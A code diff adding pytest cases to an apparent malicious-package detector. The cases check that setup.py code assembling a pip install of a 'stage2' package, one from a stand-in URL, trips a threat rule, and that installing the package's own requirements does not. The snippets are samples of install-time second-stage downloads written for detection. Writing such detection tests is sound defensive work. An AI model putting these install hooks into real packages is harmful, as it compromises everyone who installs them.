@@ -1435,3 +1435,55 @@ def test_the_public_ip_looked_up_and_sent_to_a_fixed_host_is_reconnaissance(sour
 )
 def test_the_public_ip_looked_up_and_kept_on_the_host_is_not(source: str) -> None:
     assert "CPL-THR-017" not in danger(source)
+
+
+# -- issue 16, the last misses: pip's command line built in steps --------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'import subprocess\ncmd = ["pip3", "install"]\ncmd += ["stage2"]\nsubprocess.Popen(cmd)\n',
+        """
+        import subprocess
+        cmd = ["pip", "install"]
+        cmd.extend(["stage2"])
+        subprocess.run(cmd)
+        """,
+        """
+        import subprocess, sys
+        base = [sys.executable, "-m", "pip"]
+        subprocess.check_call(base + ["install", "stage2"])
+        """,
+        """
+        import subprocess, sys
+        PIP = [sys.executable, "-m", "pip"]
+        args = PIP + ["install"] + ["--quiet"]
+        args.append("https://files.example/stage2-2.0.tar.gz")
+        subprocess.call(args)
+        """,
+    ],
+)
+def test_pip_install_assembled_from_lists_in_setup_py_is_a_threat(source: str) -> None:
+    assert "CPL-THR-019" in danger(source, "setup.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the package itself, or its requirements file, installed by a build helper
+        """
+        import subprocess, sys
+        b = [sys.executable, "-m", "pip"]
+        subprocess.call(b + ["install", "."])
+        """,
+        """
+        import subprocess, sys
+        cmd = [sys.executable, "-m", "pip", "install"]
+        cmd += ["-r", "requirements.txt"]
+        subprocess.check_call(cmd)
+        """,
+    ],
+)
+def test_pip_installing_the_package_itself_or_its_requirements_is_not(source: str) -> None:
+    assert "CPL-THR-019" not in danger(source, "setup.py")
